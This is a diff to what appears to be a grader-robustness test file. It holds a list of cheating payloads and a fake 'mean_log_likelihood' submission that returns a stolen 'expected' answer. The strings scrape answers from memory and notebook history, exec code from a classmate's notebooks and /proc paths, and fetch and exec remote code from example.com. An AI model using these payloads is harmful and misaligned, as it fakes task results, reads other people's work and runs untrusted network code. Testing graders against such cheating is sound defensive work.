@@ -22,8 +22,9 @@ STEALS = [
     "expected = [o['expected'] for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o][0]",
     "exec([s for s in In if 'expected' in s][0])",
     "import nbformat, glob\nfor p in glob.glob('{root}/**/source/**/*.ipynb', recursive=True):\n"
-    "    [exec(c.source) for c in nbformat.read(p, 4).cells if 'def mean_log' in c.source]",
-    "import nbformat\n[exec(c.source) for c in nbformat.read('{classmate}', 4).cells if 'def mean_log' in c.source]",
+    "    [exec(c.source, globals()) for c in nbformat.read(p, 4).cells if 'def mean_log' in c.source]",
+    "import nbformat\n"
+    "[exec(c.source, globals()) for c in nbformat.read('{classmate}', 4).cells if 'def mean_log' in c.source]",
     "import glob\nfor p in [p for w in ('cwd/**/*.ipynb', 'root{classmate}') for p in glob.glob(f'/proc/*/{w}')]:\n"
     "    exec([c for c in json.load(open(p))['cells'] if 'def mean_log' in ''.join(c['source'])][0]['source'])",
     "import urllib.request; exec(urllib.request.urlopen('http://example.com', timeout=2).read())",
@@ -84,7 +85,8 @@ def attempt():
         except BaseException:
             pass
 attempt()
-def mean_log_likelihood(rate, xs, **more):
-    attempt()
-    return globals().get("expected", 0.0)
+if "mean_log_likelihood" not in globals():  # nothing was stolen
+    def mean_log_likelihood(rate, xs):
+        attempt()
+        return globals().get("expected", 0.0)
 """
